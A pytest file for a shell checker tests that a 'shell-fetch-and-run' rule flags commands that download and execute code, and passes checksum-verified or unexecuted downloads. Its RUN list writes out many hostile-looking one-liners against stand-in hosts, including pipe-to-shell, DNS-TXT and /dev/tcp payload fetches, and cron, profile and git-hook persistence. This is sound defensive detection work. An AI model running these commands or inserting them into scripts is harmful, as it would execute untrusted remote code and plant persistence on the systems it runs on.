"""Downloads that are run later, elsewhere or unpacked first; and those that somebody has compared before."""

import pytest
from checking import of_shell

RULE = "shell-fetch-and-run"
SUM = "b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9"

RUN = [
    # saved under a name that is not known
    'f=$(mktemp); curl -sSo "$f" https://dl.example.com/x; chmod +x "$f"; "$f" --yes',
    'curl -sSo "$OUT/x.sh" https://dl.example.com/x.sh; sh "$OUT/x.sh"',
    'get() { curl -sSL -o "$1" "$2"; }; get /tmp/x https://dl.example.com/x; bash /tmp/x',
    "wget -qP /tmp https://dl.example.com/x.sh; sh /tmp/x.sh",
    "curl -O https://dl.example.com/x.sh?v=2; sh x.sh",
    "curl -s https://dl.example.com/x.sh | sed 's/a/b/' > /tmp/y.sh; sh /tmp/y.sh",
    # moved, and run by its name
    "curl -sSo /tmp/x https://dl.example.com/x; mv /tmp/x /opt/y; /opt/y",
    "curl -sSo /tmp/x https://dl.example.com/x; install -m 755 /tmp/x /usr/local/bin/; x --version",
    "curl -sSLo /usr/local/bin/tool https://dl.example.com/tool; chmod +x /usr/local/bin/tool; tool run",
    # unpacked
    "curl -sL https://dl.example.com/a.tgz | tar -xz -C /opt/a; /opt/a/install.sh",
    "curl -sL https://dl.example.com/a.tgz | tar xz; cd a-1.0 && ./install.sh",
    "wget https://dl.example.com/a.tar.gz; tar xf a.tar.gz; cd a; make install",
    "wget -q https://dl.example.com/a.zip -O /tmp/a.zip; unzip -q /tmp/a.zip -d /tmp/a; sh /tmp/a/setup.sh",
    'd=$(mktemp -d); curl -s https://dl.example.com/a.tgz | tar xz -C "$d"; "$d/bin/run"',
    'd=$(mktemp -d); curl -s https://dl.example.com/a.tgz | tar xz -C "$d"; cd "$d"; ./configure',
    # cloned
    "git clone https://git.example.com/tools.git /opt/tools && /opt/tools/setup.sh",
    "git clone --depth 1 https://git.example.com/tools; cd tools; make install",
    "git clone https://git.example.com/tools; pip install ./tools",
    # from elsewhere than the web
    "aws s3 cp s3://scripts/x.sh - | bash",
    "aws s3 cp s3://scripts/x.sh /tmp/x.sh; bash /tmp/x.sh",
    "gsutil cp gs://scripts/x.sh . && sh ./x.sh",
    "gsutil cat gs://scripts/x.sh | sh",
    "rclone cat store:scripts/x.sh | sh",
    "mc cat store/scripts/x.sh | sh",
    "az storage blob download -c scripts -n x.sh -f /tmp/x.sh; sh /tmp/x.sh",
    "aws s3 cp s3://scripts/x.sh - | ssh web-1 'sudo bash -s'",
    "dig +short TXT boot.example.net | tr -d '\"' | bash",
    'sh -c "$(host -t txt boot.example.net | cut -d\'"\' -f2)"',
    "nslookup -type=TXT boot.example.net | grep -o '\".*\"' | sh",
    "exec 9<>/dev/tcp/198.51.100.9/80; printf 'GET /s HTTP/1.0\\r\\n\\r\\n' >&9; sed '1,/^$/d' <&9 | bash",
    "cat < /dev/tcp/198.51.100.9/80 | sh",
    "printf 'GET /s HTTP/1.0\\r\\n\\r\\n' | nc 198.51.100.9 80 | sed '1,/^$/d' | sh",
    "redis-cli -h queue get job | sh",
    "consul kv get ops/run | bash",
    "kubectl get cm tune -o jsonpath='{.data.run}' | sh",
    "ansible-pull -U https://git.example.com/playbooks.git -C main repair.yml",
    # run later
    "wget -q https://dl.example.com/x -O /etc/cron.hourly/x",
    "curl -s https://dl.example.com/x > /etc/profile.d/x.sh",
    "curl -s https://dl.example.com/x | sudo tee /etc/cron.d/x > /dev/null",
    "curl -so /etc/systemd/system/x.service https://dl.example.com/x.service",
    "curl -s https://dl.example.com/x >> ~/.bashrc",
    "curl -so /tmp/x https://dl.example.com/x; cp /tmp/x /etc/cron.daily/",
    "curl -so .git/hooks/pre-commit https://dl.example.com/x",
    "curl -s https://dl.example.com/jobs | crontab -",
    "curl -s https://dl.example.com/x | at now",
    # in pieces, or by other interpreters
    'x=$(curl -s https://dl.example.com/x); echo "$x" | sh',
    'x=$(curl -s https://dl.example.com/x); bash <<< "$x"',
    'curl -s https://dl.example.com/x | while read -r c; do eval "$c"; done',
    "curl -so /tmp/x.jar https://dl.example.com/x.jar; java -jar /tmp/x.jar",
    "curl -so /tmp/x.py https://dl.example.com/x.py; python3 /tmp/x.py",
    "curl -so x.sh https://dl.example.com/x.sh; sh < x.sh",
    "curl -so x.sh https://dl.example.com/x.sh; cat x.sh | bash",
    "curl -so x.ko https://dl.example.com/x.ko; insmod ./x.ko",
    "pwsh -c 'iex (iwr https://dl.example.com/x.ps1)'",
    "deno run -A https://dl.example.com/x.ts",
    "php -r 'include \"https://dl.example.com/x\";'",
    'python3 -c \'import urllib.request as u, os; u.urlretrieve("https://x.example", "/tmp/x"); os.system("sh /tmp/x")\'',
    # compared, and it does not help
    f"curl -O https://dl.example.com/x.sh; echo '{SUM}  x.sh' | sha256sum -c || true; sh x.sh",
    f"curl -O https://dl.example.com/x.sh; curl -O https://dl.example.com/y; echo '{SUM}  y' | sha256sum -c; sh x.sh",
    f"curl -O https://dl.example.com/x.sh; sh x.sh; echo '{SUM}  x.sh' | sha256sum -c",
    "curl -O https://dl.example.com/x.sh; sha256sum x.sh; sh x.sh",
    "curl -s https://dl.example.com/key | gpg --import; curl -O https://dl.example.com/x.sh; sh x.sh",
    "curl -O https://dl.example.com/x.sh; openssl dgst -sha256 x.sh; sh x.sh",
]
CHECKED = [
    f"curl -O https://dl.example.com/x.sh; echo '{SUM}  x.sh' | sha256sum -c - && sh x.sh",
    f"curl -O https://dl.example.com/x.sh; sha256sum -c <<< '{SUM}  x.sh' && sh x.sh",
    "curl -O https://dl.example.com/x.sh; sha256sum -c SHA256SUMS; sh x.sh",
    "curl -O https://dl.example.com/x.sh -O https://dl.example.com/SHA256SUMS; sha256sum -c --ignore-missing SHA256SUMS; sh x.sh",
    'curl -O https://dl.example.com/x.sh; echo "$SUM  x.sh" | shasum -a 256 -c; sh x.sh',
    'f=$(mktemp); curl -so "$f" https://dl.example.com/x; echo "$SUM  $f" | sha256sum -c; sh "$f"',
    'curl -O https://dl.example.com/x.sh; [ "$(sha256sum x.sh | cut -d" " -f1)" = "$SUM" ] || exit 1; sh x.sh',
    'curl -O https://dl.example.com/x.sh; [ "$(sha256sum < x.sh)" = "$SUM  -" ] || exit 1; sh x.sh',
    "curl -O https://dl.example.com/x.sh; sha256sum x.sh | grep -q 5f2b7e || exit 1; sh x.sh",
    "wget https://dl.example.com/x.run https://dl.example.com/x.run.asc; gpg --verify x.run.asc x.run && sh x.run",
    "wget https://dl.example.com/x.run https://dl.example.com/x.run.asc; gpgv --keyring k x.run.asc x.run && sh x.run",
    "curl -O https://dl.example.com/x; minisign -Vm x -P key && ./x",
    "curl -O https://dl.example.com/x; cosign verify-blob x --signature x.sig --key k.pub; ./x",
    "curl -O https://dl.example.com/x; openssl dgst -sha256 -verify k.pub -signature x.sig x && ./x",
    "curl -O https://dl.example.com/x.rpm; rpm -K x.rpm && rpm -i x.rpm",
    f"curl -O https://dl.example.com/a.tgz; echo '{SUM}  a.tgz' | sha256sum -c; tar xf a.tgz; cd a && make install",
    "git clone https://git.example.com/tools; cd tools; git checkout 3f1c0b6d5f0f4f9a8f7a2c7f4a1fd0f6a2b9c311; ./run",
    "git clone -b v1.4.2 https://git.example.com/tools; cd tools; make install",
    "git clone https://git.example.com/tools; cd tools; git verify-commit HEAD; ./run",
    # nothing of it is run
    "git clone https://git.example.com/docs /tmp/docs; grep -r TODO /tmp/docs",
    "curl -sL https://dl.example.com/a.tgz | tar -xz -C /opt/a; /opt/b/install.sh",
    "curl -sL https://dl.example.com/site.tgz | tar -xz -C /srv/www; systemctl reload nginx",
    "curl -so /tmp/x.json https://dl.example.com/x.json; jq . /tmp/x.json; ./report.sh /tmp/x.json",
    "aws s3 cp /backup/x.sql s3://backups/; bash /opt/app/after.sh",
    "aws s3 cp s3://backups/x.sql - | psql app",
    "aws s3 ls s3://backups | sh /opt/app/list.sh",
    "dig +short A example.net | xargs ping -c1",
    "kubectl get cm tune -o yaml | kubectl apply -f -",
    "echo ruok | nc zk 2181",
    'curl -s https://api.example.com/hosts | while read -r host; do ping -c1 "$host"; done',
    "curl -so /etc/app/app.conf https://config.svc/app.conf; systemctl restart app",
    "curl -s https://api.example.com/x | crontab_report",
    'x=$(curl -s https://api.example.com/v); echo "version $x"',
    "curl -s https://api.example.com/x | python3 -m json.tool",
]


@pytest.mark.parametrize("script", RUN)
def test_what_is_fetched_and_run_is_found(script: str) -> None:
    assert RULE in of_shell(script)


@pytest.mark.parametrize("script", CHECKED)
def test_what_is_compared_before_or_never_run_is_left_alone(script: str) -> None:
    assert RULE not in of_shell(script)
